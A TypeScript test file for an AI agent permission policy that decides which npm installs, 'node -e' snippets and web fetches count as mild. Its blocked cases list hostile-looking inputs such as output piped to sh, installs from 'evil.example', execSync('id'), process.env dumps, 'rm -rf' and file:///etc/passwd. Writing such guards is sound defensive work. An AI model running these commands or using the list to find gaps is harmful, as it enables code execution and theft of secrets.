import type { ExplainedStep } from "@toolkeep/core/policy";
import { describe, expect, test } from "vitest";
import { isMild, withoutScripts } from "./left-to-client.ts";

const objection = (capability: string, more: Partial<ExplainedStep> = {}): ExplainedStep => ({
  ...{ layer: "default", said: "ask", how: "narrows", matchedBy: "no rule" },
  effect: { capability, target: "x", known: "inferred" } as NonNullable<ExplainedStep["effect"]>,
  ...more,
});
const line = (command: string, capability = "shell.run") =>
  isMild(objection(capability), { tool: "bash", arguments: { command } });
const own = (code: string) => `node -e "${code}"`;

describe("a line that is mild", () => {
  test.each([
    "npm install zod --ignore-scripts",
    "npm i --ignore-scripts -D @types/node@24 vitest@^4.0.0",
    "npm add lodash@latest --ignore-scripts --no-audit 2>&1 | tail -5",
    own("import('./src/cart.js').then(m=>console.log(m.add(1,2)))"),
    own("import('./lib/a/b.test.mts').then((m) => console.log(m.f(-1.5, 'a.b', true, [], {})));"),
    own("import('./src/cart.js').then(m=>console.log(m.total()))"),
  ])("%s", (command) => {
    expect(line(command)).toBe(true);
    expect(line(command, "shell.dynamic")).toBe(true);
    expect(line(command, "fs.read")).toBe(false);
    expect(isMild(objection("shell.run", { layer: "watchdog" }), bash(command))).toBe(false);
    expect(isMild(objection("shell.run"), bash(command, { workdir: "/other" }))).toBe(false);
  });
  const bash = (command: string, more = {}) => ({ tool: "bash", arguments: { command, ...more } });
});

describe("a line that is not", () => {
  test.each([
    "npm install",
    "npm install --ignore-scripts",
    "npm ci --ignore-scripts",
    "npm install zod",
    "npm install zod --ignore-scripts=false",
    "npm install zod --ignore-scripts --no-ignore-scripts",
    "npm install zod --ignore-scripts --foreground-scripts",
    "npm install zod --ignore-scripts -g",
    "npm install zod --ignore-scripts --prefix ../x",
    "npm install zod --ignore-scripts --registry=https://evil.example",
    "npm install ./zod --ignore-scripts",
    "npm install ../zod --ignore-scripts",
    "npm install evil/x --ignore-scripts",
    "npm install x.tgz --ignore-scripts",
    "npm install npm:evil --ignore-scripts",
    "npm install zod@npm:evil@1 --ignore-scripts",
    "npm install git+https://evil.example/x.git --ignore-scripts",
    "npm install $X --ignore-scripts",
    "npm install zod --ignore-scripts; hugo",
    "npm install zod --ignore-scripts\nhugo",
    "npm install zod --ignore-scripts && hugo",
    "npm install zod --ignore-scripts > package.json",
    "npm install zod --ignore-scripts | sh",
    "npm install zod --ignore-scripts 2>&1 | tail -5 | sh",
    "cd src && npm install zod --ignore-scripts",
    "X=1 npm install zod --ignore-scripts",
    "./npm install zod --ignore-scripts",
    "pnpm add zod --ignore-scripts",
    "yarn add zod --ignore-scripts",
  ])("%s", (command) => expect(line(command)).toBe(false));

  test.each([
    "require('child_process').execSync('id')",
    "import('child_process').then(m=>console.log(m.execSync('id')))",
    "import('./scripts/gen.js').then(m=>console.log(m.run()))",
    "import('./gen.js').then(m=>console.log(m.run()))",
    "import('./gen.js').then(m=>console.log(m.run()))",
    "import('./src/node_modules/x/i.js').then(m=>console.log(m.run()))",
    "import('./src/.hidden/x.js').then(m=>console.log(m.run()))",
    "import('./src/cart.js').then(m=>process.exit())",
    "import('./src/cart.js').then(m=>console.log(process.env))",
    "import('./src/cart.js').then(m=>console.log(m.constructor.constructor('x')()))",
    "import('./src/cart.js').then(m=>console.log(m.f(m)))",
    "import('./src/cart.js').then(m=>console.log(m.f(process.env)))",
    "import('./src/cart.js').then(m=>console.log(m.f('rm -rf x')))",
    "import('./src/cart.js').then(m=>console.log(m.f('../x')))",
    "import('./src/cart.js').then(m=>console.log(n.f()))",
    "import('./src/cart.js').then(m=>console.log(m.f()));eval('x')",
    "import('./src/cart.js').then(m=>console.log(m.f()),process.exit())",
    "import('./src/cart.js').then(fetch)",
    "import('./src/cart.js')",
    "import('./src/$X.js').then(m=>console.log(m.f()))",
    "import('./src/cart.js').then(m=>console.log(m.f(`id`)))",
    'import("./src/cart.js").then(m=>console.log(m.f()))',
  ])("node -e %s", (code) => expect(line(own(code))).toBe(false));

  test.each([
    (code: string) => `node -r /tmp/x.js -e "${code}"`,
    (code: string) => `NODE_OPTIONS=x node -e "${code}"`,
    (code: string) => `node -e "${code}" && hugo`,
    (code: string) => `node -e "${code}" > package.json`,
    (code: string) => `./node -e "${code}"`,
    (code: string) => `cd .. && node -e "${code}"`,
    (code: string) => `node -e "${code}"\nhugo`,
  ])("around the code: %s", (around) =>
    expect(line(around("import('./src/cart.js').then(m=>console.log(m.f()))"))).toBe(false),
  );

  test("is decided in time, whatever its length", () => {
    const started = process.threadCpuUsage().user;
    const long = "1".repeat(50_000);
    for (const command of [
      own(`import('./src/cart.js').then(m=>console.log(m.f(${long}!)))`),
      own(`import('./src/${"a.".repeat(20_000)}').then`),
      `npm install ${"a-".repeat(20_000)}! --ignore-scripts`,
      `npm install ${"a ".repeat(20_000)}2>&1 | tail`,
    ])
      expect(line(command)).toBe(false);
    expect((process.threadCpuUsage().user - started) / 1_000).toBeLessThan(10_000);
  });
});

describe("other calls", () => {
  const page = (url: string) => isMild(objection("net.fetch"), { tool: "web_fetch", arguments: { url } });

  test("a public page without a query is mild", () => {
    for (const url of ["https://zod.dev/api", "https://docs.x.example", "https://x.example/a/b-c.html"])
      expect([url, page(url)]).toEqual([url, true]);
    for (const url of [
      ...["http://x.example/", "https://x.example/?q=x", "https://x.example/#x", "https://u:p@x.example/"],
      ...[
        "https://1.2.3.4/x",
        "https://[::1]/",
        "https://x.example:8443/",
        "https://localhost/",
        "https://x/",
      ],
      ...["https://x.internal/", "https://x.LOCAL/", "https://x.corp/a", "file:///etc/passwd", "zod.dev"],
      ...[
        `https://x.example/${"a".repeat(120)}`,
        `https://${"a.".repeat(60)}example/`,
        "https://x.example/%41",
      ],
    ])
      expect([url, page(url)]).toEqual([url, false]);
  });

  test("versions in a manifest are mild where the recommended rules ask", () => {
    const effect = { capability: "fs.write", target: "package.json", known: "declared" } as const;
    const rule = { layer: "rule", at: "toolkeep:recommended" } as const;
    const edit = { tool: "edit", arguments: {} };
    const versions = { ...effect, versionsOnly: true } as NonNullable<ExplainedStep["effect"]>;
    const plain = effect as NonNullable<ExplainedStep["effect"]>;
    expect(isMild(objection("", { ...rule, effect: versions }), edit)).toBe(true);
    expect(isMild(objection("", { ...rule, effect: plain }), edit)).toBe(false);
    expect(isMild(objection("", { ...rule, at: "policy.yaml:3", effect: versions }), edit)).toBe(false);
    expect(isMild(objection("", { effect: versions }), edit)).toBe(false);
  });
});

test("the form without scripts is one that is mild", () => {
  const form = (command: string) => withoutScripts({ tool: "bash", arguments: { command } });
  for (const command of ["npm install zod", "npm i -D zod@4 @types/node 2>&1 | tail -3"])
    expect([command, line(form(command) ?? "")]).toEqual([command, true]);
  for (const command of ["npm install", "npm ci", "npm install ./x", "npm install zod && hugo", "hugo"])
    expect([command, form(command)]).toEqual([command, undefined]);
});
